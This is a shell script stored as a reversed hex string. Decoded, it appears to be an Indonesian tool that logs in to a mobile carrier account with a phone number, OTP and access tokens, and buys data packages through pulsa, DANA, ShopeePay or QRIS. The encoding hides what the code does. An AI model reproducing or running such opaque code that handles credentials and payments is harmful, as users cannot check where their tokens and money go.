627574756270266960202020202020202a0a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e22716e656260276e616970227f6d6f6e602e616b6573716d602e616b616c6963502e2e616b657d65647964602b616469647024756b61605228247e6962707020202020202020202020202a0a376b607f54656473656c656370247f6e60266960202020202020202a00202020202020202a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e227f6d6f6e602e616b6b6573716d602071627168402e24696c6166702b61646964702475707e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a09256e6f6e402c292d657e6f5563696f6863602d3d302d522275626d657e622b5070266960237567616b636160702e69602070227f66602078282478756e602d30276b607f54656473656c65637020202020202020202020202a092563696f68636f576b6078247e69602d302d657e6f5563696f68636020202020202020202020202a0a39727470202020202020202a0a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f626029646021646160286164657370272d756d616e6f597c696d61666b772025646f6340297c696d6166402f88bfe9b482e22668247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222e2e61607d69637964602c6963716862756260272d756d616e6f597c696d61666b772025646f6340297c696d616640258c92e22668247e696270702020202020202020202020202020202a0a39256d616e6f597c696d6166602c25646f636f597c696d6166682b62716d6b6f6f626f5464616e25636e6164737e694b62716d6b6f6f62497c696d61664026696020202020202020202020202a0927297c696d6166402e677f6e6b6e6557202c27256d616e67282475676e292d7b702c27297c696d61666f5567616b63616077282475676e21647164602d30256d616e6f597c696d61666020202020202020202020202a0a372377202d3d3029282275677f6c6e2563696f68636f576b607026696c6560202020202020202a056e6f6e402e62757475627020202020202020202020202a05637c6166402d30257e656d6f5567616b6361607f5e696020202020202020202020202a0a32203032202d3d302563696f68636f576b6070266960202020202020202a0922202e302e6168696c696052282475707e69602d302563696f68636f576b6070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a0922216d61647550257e656d40256b60296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922296e696025646f6340297c696d6166402e61607d6963502eb29f90f02e2d74554355425e256c6974735b7d537b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092224756b6160702c696164756460247168696c656d602b65747e6570227f6d6f6e6028696c6960502022a49f90f0202228247e69627070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a01302d3b202275626d657e6f547e61696271667020202020202020202020202a09222d75353a272d272b722668247e696270702020202020202020202020202020202a0a3923747e61696271667f5567616b636160782e656c602c302275626d657e6f547e61696271667026696020202020202020202020202a0020202020202020202020202a01302d3b202275626d657e6f5e6f6964707f602020202020202020202020202020202a002020202020202020202020202020202a0922292d74554355425e256c6974735b7d79747964696c61667b7d75455c424e256c6974735b78202d74554355425e256c6974735b7d7d572563696270772b5e6f6964707f6b7020725d7e454542574e256c6974735b702d202d74554355425e256c6974735b7d756d616e6f5e6f6964707f6b7d775f4c4c45495e256c6974735b702e2d74554355425e256c6974735b7d5d74623a3275626d657e6f5e6f6964707f6b7b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a002020202020202020202020202020202a0929223d347e65646e69602c2e6f6964707f6823707d65746e2e6f637a68247e6962707023202020202020202020202020202020202a002020202020202020202020202020202a092d702020202020202020202020202020202a0d52227564627f622b5e6f6964707f602a32227564627f6f5e6f6964707f6220202020202020202020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5e6f6964707f602a3225646f636220202020202020202020202020202020202020202a0c29747964696c6166702a3229747964696c61667220202020202020202020202020202020202020202a0c2d522563696270722b5e6f6964707f602a3225636962707220202020202020202020202020202020202020202a0c256d616e6f5e6f6964707f602a32256d616e6f5e6f6964707f6220202020202020202020202020202020202020202a0c256d616e6f547e6169627166702a32256d616e6f547e61696271667220202020202020202020202020202020202020202a0c2275626d657e6f5e6f6964707f602a322275626d657e6220202020202020202020202020202020202020202a0b78246e656070716e237567616b636160702020202020202020202020202020202a002020202020202020202020202020202a092222202c2229747964696c616672282475676e2e6f6964707f602d3029747964696c6166702020202020202020202020202020202a0d52256d616e622b5e6f6964707f602d30256d616e6f5e6f6964707f602020202020202020202020202020202a0a3d52237e6f6964707f6f5567616b636160722b547e6169627166702e69602e6f6964707f60227f666020202020202020202020202a09222d75646f636f547e61696271667b702a35646f6340222668247e69627070232020202020202020202020202a09222d756d616e6f547e61696271667b702a3d7275626d657e6f547e61696271667b70247e61696271665020a29f90f22668247e6962707020202020202020202020202a0d5225646f636f547e61696271667f5567616b636160722b547e6169627166702d3025646f636f547e61696271667020202020202020202020202a0d52256d616e622b547e6169627166702d30256d616e6f547e61696271667020202020202020202020202a0a33747e61696271667f5567616b636160702e6960247e616962716670227f6660202020202020202a00202020202020202a01302d302275626d657e6f547e616962716670202020202020202a01302d302275626d657e6f5e6f6964707f60202020202020202a00202020202020202a0d5223747e61696271667f5567616b636160722b51647164602d3023747e61696271667f5567616b63616070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a09222d7d57256079747f597c696d61666f5567616b636160772b5d57297c696d61666f5567616b636160772b516471646b702a30202020202020256079645020222668247e69627070202020202020202a09222d75646f636f597c696d61666b702a35646f6340297c696d61664020222668247e69627070202020202020202a09222d7d57256d616e672b5d57297c696d61666f5567616b636160772b516471646b702a34756b616050227164766164402f88bfed8b9f90f226682275646165686f547e69627070202020202020202a09282e65656273637f5271656c6360202020202020202a0a357e656d6f5567616b6361607f5e6960256c696867702020202a05657274502d30257e656d6f5567616b6361607f5e69602020202a002020202a00202020256e6f6e402e627574756270202020202020202a09222e2164716460297c696d61666024616f6c602f647024656c6961664228247e69627070202020202020202a0a3164716460247f6e602669602020202a09202020202a056079747f5e6f6964716277696d60202020202020202a0c25637962707275647e656f537960202020202020202a0c25646f636f597c696d616660202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a0822367f597c696d61666f547567602d3021647164602020202a09256079747f5e6f6964716277696d602c25637962707275647e656f5379602c25646f636f597c696d6166602c237e656b6f64702c29756b6f59607168297c696d61666f547567602d30216471646023202020202a002020202a0d5b502d30237567616b636160702020202a002020202a056e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e246e657f6660237e656b6f64702275637570256679647361602f6e4228247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a392a05637c6166402d302c6f6f62602a3c69616475646f5567616b6361607f5e6275747562702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0a08297c696d61666f59726f537567616b6361607f547567602665646a0a0a0e6275747562702020202a0a092825637571607020202020202020202020202a09222e2967616c6021626f63602e616b68616c6963502e24696c6166702b616469647025646f64756d4228247e6962707020202020202020202020202a0a35637c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a092825637571607020202020202020202020202a09222e2e616b6c616471626964602e61696c65626d65605228247e6962707020202020202020202020202a0a322032202d3d30246f6864756d6f5475707e696026696c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a09222e2e2e296c61626d656b602b65747e65702275647e65602e616b656452282475707e696020202020202020202020202a0925657274502c222547414b4341405f59555242202c237d6564796f547e656d697160702c237e656b6f64702c29756b6f5960716825636e616c61626f547e656d656c647475637020202020202020202020202a0a322332202d3d30246f6864756d6f5475707e696026696c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a09222e2e2e296c61626d656b602b65747e65702275647e65602e616b656452282475707e696020202020202020202020202a0925657274502c222547414b4341405f59555242202c237d6564796f547e656d697160702c237e656b6f64702c29756b6f5960716822367f547e656d6971607f537962717f577f68637020202020202020202020202a0a322232202d3d30246f6864756d6f5475707e696026696c6560202020202020202a05637c6166402d30257e656d6f547e656d6971607f5e696020202020202020202020202a09222e2e2e296c61626d656b602b65747e65702275647e65602e616b656452282475707e696020202020202020202020202a0925657274502c222547414b4341405f59555242202c237d6564796f547e656d697160702c237e656b6f64702c29756b6f5960716822367f547e656d69716079647c657d6f577f68637020202020202020202020202a0a322132202d3d30246f6864756d6f5475707e6960266960202020202020202a0922202a39227f6d6f6e682025646f64756d6028696c696052282475707e69602d30246f6864756d6f5475707e6960202020202020202a00202020202020202a09222d75323a272d272b722668247e69627070202020202020202a09222c61647162402f88bfe9a682e02e2d74554355425e256c6974735b7d503b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092221637c65705020b29f90f02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922235942515021b39f90f02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922292971605565607f6863502c2f465f402c2971605f67402c214e4144482024756c6c61675d254023b29f90f02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222a3e6162716971626d65605025646f64756d4e6c5228247e69627070202020202020202a0a357e656d6f547e656d6971607f5e6960256c696867702020202a05657274502d30257e656d6f547e656d6971607f5e69602020202a0a09222d75353a272d272b722668247e696270702020202a09222d75636962707f5c61647f647b702072502a3c61647f645021676271684020222668247e696270702020202a09222d75353a272d272b722668247e696270702020202a0922292d7d5725636962707f5d656479672b5d6564796b70207258202d7d57256d616e6f5d656479672b5d6564796b702d2020222668247e69627070202020202020202a0a337d6564796f547e656d697160702e69602d65647960227f66602020202a09222a34757b696275626024756b616070296c65626d656d602e616b616021646e614228247e696270702020202a0922276e696c646e6572402e61696c65626d6560502963716d6279666e6f6b40229b9f90f2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a0a09237d6564796f547e656d697160702e69602d65647960227f66602d5725636962707f5d656479672b5d656479682d6573702d3025636962707f5c61647f64702020202a0a0d502020202a0d70202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b5c69616475646f5567616b6361607f5377702a322e6f6964716d6279666e6f636f5e656b6f64722020202020202020202020202a0c20302a32287164722020202020202020202020202a0c292820796274737e272d7d52256d616e622b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f53777b702d7d52256d616e622b5d52297c696d61666f5567616b636160722b5c69616475646f5567616b6361607f53777b7726602a32256d616e6f5d656479622020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5377702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5377702a3225646f636f5d656479622020202020202020202020202a0b70202020202020202a0c2d70202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b5c69616475646f5567616b6361607f5972716d696270702a322e6f6964716d6279666e6f636f5e656b6f64722020202020202020202020202a0c20302a32287164722020202020202020202020202a0c292820796274737e272d7d52256d616e6f5e6f6964707f622b5567616b6361607f5972716d6962707b702d7d52256d616e6f547e6169627166722b5567616b6361607f5972716d6962707b7726602a32256d616e6f5d656479622020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5972716d696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b5c69616475646f5567616b6361607f5972716d696270702a3225646f636f5d656479622020202020202020202020202a0b70202020202020202a0b502d30237d6564796f547e656d697160702020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e2c6f6f6863635026202b627f675024756b6160702c6961647564602c69626d61676e656d602c616761674228247e69627070202020202020202a0a3c69616475646f5567616b6361607f537770247f6e602669602020202a0925637c61664d35686361636f556375702c25637962707275647e656f53796f5377702c227564627f6f5377702c256d616e6f547e61696271667f5377702c25646f636f597c696d61666f5377702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f547567602d302c69616475646f5567616b6361607f5377702020202a0567616b636160702c6f6f6863635026202b627f675025686470227f6660237c696164756460247567402e223023202020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e216d6164757024756b6160702c6961647564602c69626d61676e656d602c616761674228247e69627070202020202020202a0a3c69616475646f5567616b6361607f5972716d69627070247f6e602669602020202a0925637c61664d35686361636f556375702c2d5225646f63622b5567616b6361607f5972716d696270702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302c69616475646f5567616b6361607f5972716d696270702020202a0567616b636160702972716d6962707025686470227f6660237c696164756460247567402e213023202020202a0a09222e2e2e276e696c646e6572602b65747e657024756b6160702c6961647564602c69626d61676e656d4228247e696270702020202a0a05637c6166402d3025637962707275647e656f53796f5377702020202a06302d30227564627f6f5377702020202a022c6f6f6863635026202b627f6752202d30256d616e6f547e61696271667f5377702020202a022661353130323365303036623d283334383d236436643d203936643d246464646336346532202d3025646f636f597c696d61666f5377702020202a04656c646e6572602562602f64702567616b63616070222c6f6f6863635026202b627f67522025686470227f6660237c69616475644023202020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e246e657f6660237e656b6f64702275637570256679647361602f6e4228247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a392972716d6962707f55637962707275647e656f5379602c2567616b6361607f5972716d6962707825637168636275707f556c646e65726f556c646e6168602665646a0a092038247968756e237973702020202a09282563757160702020202a05637c6166402e62757475627020202020202020202020202a09222e24656c6c65636e61636025637168636275705228247e6962707020202020202020202020202a0a35637c6560202020202020202a092020202020202020202020202a056d616e6f547e61696271667d356d616e6f5d656479602020202020202020202020202020202a0c25636962707d3563696270702020202020202020202020202020202a0c25646f636f5e6f6964707f6f5567616b6361607d3475676271647f547e656d697160702020202020202020202020202020202a0c2e6769637f5f647f53747d3e6769637f5f647f5374702020202020202020202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f64702020202020202020202020202020202a0c237e656b6f647d337e656b6f64702020202020202020202020202020202a0c29756b6f5960716d39756b6f596071602020202020202020202020202020202a0829747e657f626f547e656d656c647475637020202020202020202020202a0a3222554843455f465f5d454544454252202d3d30227f666f547e656d69716070246e6160272537202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a02222d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d6971607f537962717f577f68637020202020202020202020202a0a092020202020202020202020202a09202020202020202020202020202020202a0c2d522e6f6964716d6279666e6f636f5e656b6f64722b54607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d38716470202020202020202020202020202020202020202a0c2d52256d616e622b5d522e6f6964707f6f5567616b636160722b54607d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d522563696270722b5d522e6f6964707f6f5567616b636160722b54607d35636962707f5d65647960202020202020202020202020202020202020202a0c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d522e6f6964707f6f5567616b636160722b54607d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d697160502020202020202020202020202020202a08246e656070716e237d6564796f547e656d6971607020202020202020202020202a0020202020202020202020202a092020202020202020202020202a0c25637c61664d35686361636f556375702020202020202020202020202020202a0c22254e4f4e42202020202020202020202020202020202a0c25637c6166402020202020202020202020202020202a0c26302020202020202020202020202020202a0c222263353461633332316661663d293566316d243336643d273364603d226535336935326532202020202020202020202020202020202a0c222661353130323365303036623d283334383d236436643d203936643d246464646336346532202020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a08237c69616475646f5567616b6361607f547567602d3024607020202020202020202020202a097f63656440232020202020202020202020202a0a372937202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a0c222473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d6971607f537962717f577f68637020202020202020202020202a0a372437202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a056572745d3971607565607f68637f5564657c636875602020202020202020202020202020202a0c222473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d69716079647c657d6f577f68637020202020202020202020202a0a372337202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a022951405545405f4843522d346f6864756d6f547e656d6971607f5563627f66602020202020202020202020202020202a0c222473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d69716079647c657d6f577f68637020202020202020202020202a0a372237202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b6563602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a022473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0825636e616c61626f547e656d656c647475637020202020202020202020202a0925637962707275647e656f5379602c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f596071682567616b6361607f556371686362757070232020202020202020202020202a0a372137202d3d302563696f686360266960202020202020202a00202020202020202a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f62602964602164616028616465737024756b61605228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222e2b62716d6b6f6f6260256b602e616b6861626d61647964602c696371686275626024756b61605228247e696270702020202020202020202020202020202a0a337375636365737026696020202020202020202020202a092020202020202020202020202a0c227564627f6f5e6f6964707f6d327564627f602020202020202020202020202020202a0c256d616e6f5e6f6964707f6d356d616e6f5e6f6964707f602020202020202020202020202020202a0c256d616e6f547e61696271667d356d616e6f547e6169627166702020202020202020202020202020202a0c25637962707275647e656f53796d35637962707275647e656f5379602020202020202020202020202020202a0c2922222c22256d616e62282475676e292d7b702c22297c696d61666f5567616b63616072282475676e2567616b6361607d356d616e6f597c696d6166602020202020202020202020202020202a0c2922222c2225646f636f597c696d61666f5567616b63616072282475676e292d7b702c22297c696d61666f5567616b63616072282475676e2567616b6361607d35646f636f597c696d6166602020202020202020202020202020202a082b62716d6b6f6f626f5464616e25636e6164737e694b62716d6b6f6f62402d30237375636365737020202020202020202020202a0b62716d6b6f6f62602f647024646140232020202020202020202020202a0a313d202d3120227564627f6f5e6f6964707f60246e6160222032202d3d302563696f686360266960202020202020202a05637c6166402e62757475627020202020202020202020202a0a32203032202d3d302563696f686360266960202020202020202a0922202e302e6168696c696052282475707e69602d302563696f686360202020202020202a0a09222d75323a272d272b722668247e69627070202020202020202a092224756b61607022716476616460256b60296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222b62716d6b6f6f6240256b602861626d61645026949f90f02e2d74554355425e256c6974735b7d503b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0a313d202d3120227564627f6f5e6f6964707f60266960202020202020202a0a092229216964656372756470216b696a682023757e6f626029616761626563702c69626d6140218e8f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0a3222554843455f465f5d454544454252202d3d30227f666f547e656d69716070266960202020202020202a00202020202020202a022547414b4341405f59555242202d30227f666f547e656d6971607020202020202020202020202a0a3222202d3d30227f666f547e656d69716070266960202020202020202a0547414b4341405f595552402f6470247c657166656460247563702567702f63702c2974707d6560237960227f666f547e656d6971607023756d6964756d6f63502320202020202020202a00202020202020202a0922235942515021b39f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222921697e6e69616c482024756c6c61675d254023b29f90f02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222971605565607f68635023b29f90f02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092221637c65705020b29f90f02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222a3e61696c65626d6560502963707f4e6c5228247e69627070202020202020202a0a357e656d6f5c69616475646f5567616b6361607f5e6960256c696867702020202a05657274502d30257e656d6f5c69616475646f5567616b6361607f5e69602020202a002020202a09222d75353a272d272b722668247e696270702020202a09222d7c69616475646b7e6c5a3c48597d402b4e63522668247e696270702020202a09222d75353a272d272b722668247e696270702020202a09222d79223d347e65646e69602c237e6f6464616823707d65746e2e6f637a6b7e6c5a337e6f646461422668247e696270702020202a0a09202020202023202020202a0920202020202020202023202020202a0c22222d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202023202020202a0c203d3871647020202020202020202020202023202020202a0c2d52256d616e622b53757e6f626d356d616e6f5d6564796020202020202020202020202023202020202a0c203d35636962707f5d6564796020202020202020202020202023202020202a0c22222d356079747f547365746f62707020202020202020202020202023202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b53757e6f626d35646f636f5d6564796020202020202020202020202023202020202a082d656479447e656d69716050202020202020202023202020202a08246e656070716e237d6564796f547e656d697160702020202023202020202a0a337563757e6f62602e696023757e6f6260227f666023202020202a076e69647375647025627f6d602465656e602c237563757e6f62602c6c61602b6369605023202020202a002020202a09202020202023202020202a0920202020202020202023202020202a0c22222d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202023202020202a0c203d3871647020202020202020202020202023202020202a0c2d52256d616e622b5d503b537563757e6f626d356d616e6f5d6564796020202020202020202020202023202020202a0c203d35636962707f5d6564796020202020202020202020202023202020202a0c22222d356079747f547365746f62707020202020202020202020202023202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d503b537563757e6f626d35646f636f5d6564796020202020202020202020202023202020202a082d656479447e656d69716050202020202020202023202020202a08246e656070716e237d6564796f547e656d697160702020202023202020202a0a30302e3029237563757e6f62682e656c6026696023202020202a076e69647375647025627f6d602465656e602c256c62616c696166716026696023757e6f6260247371302b6369605023202020202a002020202a092d5b502c22237563757e6f6262282475676e237e6f646461602d30237563757e6f62602020202a0a002020202a0925646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f59607168237e6f6464616f547567602d30237e6f646461602020202a09222d75353a272d272b722668247e6962707020202020202020202020202a0922237569502a346564796d696c6e6550202228247e696270702020202020202020202020202020202a0a3d52246564796d696c6e657f5379622b547966656e65626026696020202020202020202020202a0020202020202020202020202a0922292d756079747f516471646b78202d7d572c61647f64772b547966656e65626b702a3c61647f645020222668247e696270702020202020202020202020202020202a0a3d522458554452202c222543494f4652202c2221445144422b502e6960247f6e60256079747f516471646026696c656020202020202020202020202a09222d71647f65717b702a3c61647f645020222668247e6962707020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a0922224b402d76623e2a326b6f51647f65717b702a31647f65715020222668247e6962707020202020202020202020202020202020202020202020202a04323031302f2021647f6571702d30226b6f51647f65717020202020202020202020202020202020202020202020202a0a3030303f51302d3e3021647f65717026696c6560202020202020202020202020202020202020202a0922224d402d76623e2a326d6f51647f65717b702a31647f65715020222668247e6962707020202020202020202020202020202020202020202020202a0922302a2a202432303138202f2021647f6571702d30226d6f51647f65717020202020202020202020202020202020202020202020202a0a3030303f5030303f51302d3e3021647f65717026696c6560202020202020202020202020202020202020202a09222247402d76623e2a32676f51647f65717b702a31647f65715020222668247e6962707020202020202020202020202020202020202020202020202a0923302a2a202432303138202f2021647f6571702d3022676f51647f65717020202020202020202020202020202020202020202020202a0a3030303f5030303f5030303f51302d3e3021647f657170266960202020202020202020202020202020202020202a0247402e6960247960256b616d602c25647972602e69602379602479402320202020202020202020202020202020202020202a092d572c61647f64772b547966656e656268247e69602d3021647f657170202020202020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e6562602669602020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e656260246e6160222144514442202d3d30256079747f516471646026696c656020202020202020202020202a0922235d43502d7d572c61647f64772b547966656e65626b702a3c61647f645020222668247e696270702020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e656260246e6160222458554452202d3d30256079747f516471646026696c656020202020202020202020202a092224796e656d602d70363f2d572c61647f64772b547966656e65626b702a3c61647f645020222668247e696270702020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e656260246e6160222543494f4652202d3d30256079747f516471646026696020202020202020202020202a0d57256079747f51647164672b547966656e6562602d30256079747f516471646020202020202020202020202a09222d7d5724696f5d656479672b547966656e65626b702a3469602d6564794020222668247e6962707020202020202020202020202a09222d7d57256d616e672b547966656e65626b702a356d616e40222668247e6962707020202020202020202020202a0a33747966656e6562602e6960247966656e656260227f6660202020202020202a09222a34756b616050247966656e65624228247e69627070202020202020202a0a392473796c602c23747966656e65626825636e6164737e69637960246e616023747966656e6562602669602020202a0d5223747966656e6562622b5d522e6f6964707f6f5567616b636160722b5567616b636160702d3023747966656e6562602020202a09222d75353a272d272b722668247e696270702020202a09222d7d57247e696f60772b5d572e6f6964707f6f5567616b636160772b5567616b6361607b702a30202020202020247e696f605020222668247e696270702020202a09222d727f666f547e656d6971607b702a30227f6640247e656d6971605020222668247e696270702020202a09222d7d57256079747f5e616c60772b5d57297c696d61666f5567616b636160772b5567616b6361607b702a3020202020202020256079645020222668247e696270702020202a09222d79747964696c61667b702a30202669647b61402163716d4020222668247e696270702020202a09222d75636962707b702072502a3020202020202021676271684020222668247e696270702020202a002020202a0d502020202a0920202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202a0c203d3871647020202020202020202020202a0c292820796274737e222d756d616e6f5e6f6964707f6b702d756d616e6f547e61696271667b72266d356d616e6f5d6564796020202020202020202020202a0c25636962707d35636962707f5d6564796020202020202020202020202a0c22222d356079747f547365746f62707020202020202020202020202a0c25646f636f5e6f6964707f6f5567616b6361607d35646f636f5d6564796020202020202020202020202a082d656479447e656d69716050202020202020202a0b502d30237d6564796f547e656d697160702020202a002020202a0d52227f666f547e656d697160722b5d52297c696d61666f5567616b636160722b5567616b636160702d30227f666f547e656d697160702020202a0d52207d616473756d6964722b5567616b636160702d302e6769637f5f647f5374702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b5567616b636160702d302e6f6964716d6279666e6f636f5e656b6f64702020202a002020202a09222d756c6479647b702a34756b6160502c69616475644026a39f90f226682275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a0a092820796274737e222d756d616e6f5e6f6964707f6b702d202d756d616e6f547e61696271667b702d202d756d616e6f597c696d61666b7226602d30256c647964702020202a002020202a0f6964696653202922222c22256d616e62282475676e292d7b702c222e6f6964707f6f5567616b63616072282475676e2567616b636160702d30256d616e6f5e6f6964707f602020202a0f626d6f63402162747850227f6643202922222c22256d616e62282475676e292222202c22247e61696271667f5c69616475646f5567616b63616072282475676e2567616b636160702d30256d616e6f547e6169627166702020202a0f6262757450246564796d696c6e6553202922222c22256d616e62282475676e292d7b702c22297c696d61666f5567616b63616072282475676e2567616b636160702d30256d616e6f597c696d6166602020202a0f6964696653202922222c22256d616e62282475676e292d7b702c222e6f6964707f6f5567616b63616072282475676e2567616b636160702d30256d616e6f5e6f6964707f602020202a0a0d5229747964696c6166722b5d522e6f6964707f6f5567616b636160722b5567616b636160702d3029747964696c6166702020202a092d52236e64722b5d522e6f6964707f6f5567616b636160722b5567616b636160782c6d64786f59716c60737964602d302c6961647564602020202a0d522563696270722b5d522e6f6964707f6f5567616b636160722b5567616b636160702d302563696270702020202a0a05637c6166402e627574756270202020202020202a0928256375716070202020202020202a09222e237c6961647564602567616b6361607024616f6c602f647024656c6961664228247e69627070202020202020202a0a